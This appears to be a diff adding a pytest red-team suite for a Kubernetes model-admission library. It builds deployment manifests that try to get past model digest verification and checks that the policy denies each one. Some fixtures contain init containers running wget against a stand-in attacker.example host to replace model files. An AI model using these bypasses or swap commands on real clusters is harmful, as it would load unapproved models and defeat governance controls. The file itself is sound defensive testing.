@@ -1,0 +1,352 @@
+"""Red team: ways a deployer got a model past the evidence binding (issue 9) in production.
+
+Each test is an object a deployer could submit, judged by the library Engine on the shipped
+policies through the same adapters the webhook uses. Each asserts the control that must deny
+it; a legitimate counterpart is still allowed, so a fix cannot simply deny everything.
+"""
+
+from __future__ import annotations
+
+import base64
+import datetime as dt
+import json
+import shutil
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from mlgate.engine import Engine
+from mlgate.evidence.attestation import create_attestation
+from mlgate.evidence.signature import KeySigner, model_digest
+from mlgate.policyset.yamlfile import load_data_file
+from mlgate.subjects import RequestInfo, subject_from_object
+from mlgate.subjects.base import content_addressed
+
+REPO = Path(__file__).resolve().parents[1]
+EXAMPLES = REPO / "examples"
+MODEL = EXAMPLES / "models" / "credit-scorer"
+ATTESTED_URI = "s3://ml-models-prod/credit-scorer/0.9.2"
+VERIFIER = "ghcr.io/mlgate/mlgate-verifier:0.1.0"
+KSERVE_SOURCE = "internal.serving.kserve.io/storage-initializer-sourceuri"
+RELEASE = RequestInfo(username="release-bot", groups=("mlops-release-managers",))
+KSERVE = RequestInfo(username="system:serviceaccount:kserve:kserve-controller-manager")
+OWNER = {
+    "apiVersion": "serving.kserve.io/v1beta1",
+    "kind": "InferenceService",
+    "name": "credit",
+    "uid": "1f0c6a52-3f7e-4c1a-9a51-0d3b0a4f2c11",
+    "controller": True,
+}
+
+
+@pytest.fixture(scope="module")
+def digest() -> str:
+    return model_digest(MODEL)
+
+
+def attestation(digest: str, uris: list[str]) -> str:
+    """A governance attestation from the trusted promotion pipeline for these URIs."""
+    inputs = EXAMPLES / "attestations" / "credit-scorer"
+    bundle = create_attestation(
+        KeySigner.from_files(EXAMPLES / "keys" / "promotion-pipeline.key.pem"),
+        model_name="credit-scorer",
+        model_digest=digest,
+        card=load_data_file(inputs / "card.yaml")[0],
+        evaluation=load_data_file(inputs / "evidence.json")[0],
+        approvals=load_data_file(inputs / "approvals.yaml")[0],
+        gates=load_data_file(inputs / "gates.yaml")[0],
+        model_uris=uris,
+        created_at=dt.datetime.now(dt.UTC),
+    )
+    return base64.b64encode(bundle).decode()
+
+
+def evidence(digest: str, uri: str = ATTESTED_URI) -> dict[str, str]:
+    return {
+        "mlgate.io/model-digest": digest,
+        "mlgate.io/signature": base64.b64encode((MODEL / "model.sig").read_bytes()).decode(),
+        "mlgate.io/attestation": attestation(digest, [uri]),
+    }
+
+
+@pytest.fixture(scope="module")
+def engine() -> Any:
+    eng = Engine.default()
+    yield eng
+    eng.close()
+
+
+@pytest.fixture(scope="module")
+def kserve_engine(tmp_path_factory: pytest.TempPathFactory) -> Any:
+    """Shipped policies with the verifying ClusterStorageContainer declared for s3://."""
+    policies = tmp_path_factory.mktemp("redteam") / "policies"
+    shutil.copytree(REPO / "policies", policies)
+    params = policies / "params.yaml"
+    text = params.read_text()
+    assert "kserve_verified_uri_prefixes: []" in text
+    params.write_text(
+        text.replace("kserve_verified_uri_prefixes: []", 'kserve_verified_uri_prefixes: ["s3://"]')
+    )
+    eng = Engine.from_path(policies)
+    yield eng
+    eng.close()
+
+
+def deployment(
+    annotations: dict[str, str],
+    containers: list[dict[str, Any]],
+    init: list[dict[str, Any]] | None = None,
+    owner: dict[str, Any] | None = None,
+) -> dict[str, Any]:
+    spec: dict[str, Any] = {"containers": containers}
+    if init:
+        spec["initContainers"] = init
+    meta: dict[str, Any] = {"name": "credit-llm", "namespace": "ml-prod"}
+    if owner:
+        meta["ownerReferences"] = [owner]
+    return {
+        "apiVersion": "apps/v1",
+        "kind": "Deployment",
+        "metadata": meta,
+        "spec": {
+            "replicas": 1,
+            "selector": {"matchLabels": {"app": "credit"}},
+            "template": {
+                "metadata": {"labels": {"app": "credit"}, "annotations": dict(annotations)},
+                "spec": spec,
+            },
+        },
+    }
+
+
+def vllm(uri: str) -> dict[str, Any]:
+    return {"name": "vllm", "image": "vllm/vllm-openai:v0.6.3", "args": ["--model", uri]}
+
+
+def verifier(expect: str, **extra: Any) -> dict[str, Any]:
+    container = {
+        "name": "verify-model",
+        "image": VERIFIER,
+        "args": ["--model-dir", "/models", "--expect-digest", expect],
+    }
+    return {**container, **extra}
+
+
+def decide(engine: Any, obj: dict[str, Any], info: RequestInfo = RELEASE) -> tuple[bool, set[str]]:
+    subject = subject_from_object(obj, info)
+    assert subject is not None, "the adapter must see the model"
+    decision = engine.evaluate_subject(subject)
+    return decision.allowed, {v.control for v in decision.violations}
+
+
+# -- attack: `@sha256:` written onto a mutable URI ----------------------------------------
+# s3://, https://, pvc:// keys may contain "@sha256:..." but the bytes behind them can still
+# be replaced after approval: only oci/image digests and hf commits are content-addressed.
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "s3://ml-models-prod/credit-scorer/0.9.2@{d}",
+        "https://models.example.com/credit-scorer@{d}",
+        "pvc://models/credit-scorer@{d}",
+        "s3://ml-models-prod/credit-scorer?version=@{d}",
+        "hf://org/credit-scorer@{d}",
+    ],
+)
+def test_digest_suffix_on_a_mutable_uri_still_needs_pod_start_verification(
+    engine: Any, digest: str, uri: str
+) -> None:
+    uri = uri.format(d=digest)
+    assert content_addressed(uri) is False
+    allowed, controls = decide(engine, deployment(evidence(digest, uri), [vllm(uri)]))
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+def test_an_oci_digest_is_still_content_addressed(engine: Any, digest: str) -> None:
+    uri = f"oci://registry.example.com/models/credit-scorer@{digest}"
+    assert content_addressed(uri) is True
+    assert decide(engine, deployment(evidence(digest, uri), [vllm(uri)])) == (True, set())
+
+
+# -- attack: a verifier that does not gate the model server -------------------------------
+
+
+def test_a_sidecar_verifier_does_not_gate_the_server(engine: Any, digest: str) -> None:
+    """restartPolicy: Always makes an init container a sidecar: the server starts beside it,
+    whether or not the check passes."""
+    ok = deployment(evidence(digest), [vllm(ATTESTED_URI)], [verifier(digest)])
+    assert decide(engine, ok) == (True, set())
+    sidecar = verifier(digest, restartPolicy="Always")
+    allowed, controls = decide(
+        engine, deployment(evidence(digest), [vllm(ATTESTED_URI)], [sidecar])
+    )
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+def test_an_init_container_after_the_verifier_can_replace_the_bytes(
+    engine: Any, digest: str
+) -> None:
+    swap = {
+        "name": "swap",
+        "image": "busybox:1.36",
+        "command": ["sh", "-c", "wget -O /models/model.onnx http://attacker.example/m.onnx"],
+    }
+    obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [verifier(digest), swap])
+    allowed, controls = decide(engine, obj)
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+    fetch_then_verify = deployment(evidence(digest), [vllm(ATTESTED_URI)], [swap, verifier(digest)])
+    assert decide(engine, fetch_then_verify) == (True, set())
+
+
+# -- attack: claiming KServe's verifying storage initializer ------------------------------
+
+
+def kserve_pod_template(digest: str, init: list[dict[str, Any]] | None = None) -> dict[str, Any]:
+    annotations = {**evidence(digest), KSERVE_SOURCE: ATTESTED_URI}
+    server = {
+        "name": "kserve-container",
+        "image": "kserve/sklearnserver:v0.14.1",
+        "args": ["--model_name=credit", "--model_dir=/mnt/models"],
+    }
+    return deployment(annotations, [server], init, owner=OWNER)
+
+
+def test_kserve_controller_child_still_counts_as_verified(kserve_engine: Any, digest: str) -> None:
+    assert decide(kserve_engine, kserve_pod_template(digest), KSERVE) == (True, set())
+
+
+def test_a_deployer_cannot_claim_the_kserve_storage_initializer(
+    kserve_engine: Any, digest: str
+) -> None:
+    """The source-URI annotation is KServe's; written by a person, nothing injects (or
+    verifies) the download into /mnt/models."""
+    allowed, controls = decide(kserve_engine, kserve_pod_template(digest), RELEASE)
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+def test_an_own_storage_initializer_stops_kserve_injecting_the_verifier(
+    kserve_engine: Any, digest: str
+) -> None:
+    """KServe does not inject its storage initializer when one is already there."""
+    own = {
+        "name": "storage-initializer",
+        "image": "busybox:1.36",
+        "command": ["sh", "-c", "wget -O /mnt/models/model.onnx http://attacker.example/m"],
+    }
+    allowed, controls = decide(kserve_engine, kserve_pod_template(digest, [own]), KSERVE)
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+def test_a_pod_with_the_injected_verifying_initializer_is_allowed(
+    kserve_engine: Any, digest: str
+) -> None:
+    """After KServe injected the verifying ClusterStorageContainer, the Pod shows it."""
+    template = kserve_pod_template(digest)["spec"]["template"]
+    injected = {
+        "name": "storage-initializer",
+        "image": VERIFIER,
+        "args": [ATTESTED_URI, "/mnt/models"],
+        "env": [
+            {
+                "name": "MLGATE_EXPECT_DIGEST",
+                "valueFrom": {
+                    "fieldRef": {"fieldPath": "metadata.annotations['mlgate.io/model-digest']"}
+                },
+            }
+        ],
+    }
+    owner = {**OWNER, "apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "credit-abc"}
+    pod = {
+        "apiVersion": "v1",
+        "kind": "Pod",
+        "metadata": {**template["metadata"], "namespace": "ml-prod", "ownerReferences": [owner]},
+        "spec": {**template["spec"], "initContainers": [injected]},
+    }
+    pod["metadata"]["name"] = "credit-abc-x1"
+    rs_controller = RequestInfo(username="system:serviceaccount:kube-system:replicaset-controller")
+    assert decide(kserve_engine, pod, rs_controller) == (True, set())
+    pod["spec"]["initContainers"][0]["image"] = "busybox:1.36"
+    allowed, controls = decide(kserve_engine, pod, rs_controller)
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+# -- attack: the webhook reads one digest, `mlgate verify` checks another ------------------
+
+OTHER = "sha256:" + "e" * 64  # the digest of the attacker's own (self-signed) model
+
+
+def _verifier_args(digest: str, args: list[str], **extra: Any) -> dict[str, Any]:
+    return {"name": "verify-model", "image": VERIFIER, "args": args, **extra}
+
+
+@pytest.mark.parametrize(
+    "container",
+    [
+        # argparse: the last of a repeated flag wins
+        lambda d: _verifier_args(
+            d, ["--model-dir", "/models", "--expect-digest", d, "--expect-digest", OTHER]
+        ),
+        # argparse: an unambiguous prefix is the flag
+        lambda d: _verifier_args(
+            d, ["--model-dir", "/models", "--expect-digest", d, "--expect", OTHER]
+        ),
+        # --storage-uri: the $MLGATE_MODELS entry for it replaces the expected digest
+        lambda d: _verifier_args(
+            d,
+            ["--model-dir", "/models", "--expect-digest", d, "--storage-uri", "s3://x/m"],
+            env=[{"name": "MLGATE_MODELS", "value": json.dumps({"s3://x/m": {"digest": OTHER}})}],
+        ),
+        # the kubelet keeps the last of two env entries with one name; a ConfigMap's is unseen
+        lambda d: _verifier_args(
+            d,
+            ["--model-dir", "/models"],
+            env=[
+                {"name": "MLGATE_EXPECT_DIGEST", "value": d},
+                {
+                    "name": "MLGATE_EXPECT_DIGEST",
+                    "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}},
+                },
+            ],
+        ),
+        # envFrom can supply $MLGATE_MODELS, which overrides the flag for --storage-uri
+        lambda d: _verifier_args(
+            d,
+            ["--model-dir", "/models", "--expect-digest", d, "--storage-uri", "s3://x/m"],
+            envFrom=[{"configMapRef": {"name": "attacker"}}],
+        ),
+        # the verifier image running something else, with the digest in its environment
+        lambda d: _verifier_args(
+            d, ["-c", "true"], command=["sh"], env=[{"name": "MLGATE_EXPECT_DIGEST", "value": d}]
+        ),
+    ],
+    ids=[
+        "repeated-flag",
+        "abbreviated-flag",
+        "storage-uri-models",
+        "env-override",
+        "envfrom",
+        "not-mlgate",
+    ],
+)
+def test_the_webhook_reads_the_digest_the_verifier_checks(
+    engine: Any, digest: str, container: Any
+) -> None:
+    obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [container(digest)])
+    allowed, controls = decide(engine, obj)
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+def test_the_digest_through_a_variable_and_the_entry_point_is_still_read(
+    engine: Any, digest: str
+) -> None:
+    env = [{"name": "D", "value": digest}]
+    via_var = _verifier_args(digest, ["--model-dir", "/models", "--expect-digest=$(D)"], env=env)
+    obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [via_var])
+    assert decide(engine, obj) == (True, set())
+    command = _verifier_args(
+        digest, ["verify", "--model-dir", "/m", "--expect-digest", digest], command=["mlgate"]
+    )
+    obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [command])
+    assert decide(engine, obj) == (True, set())
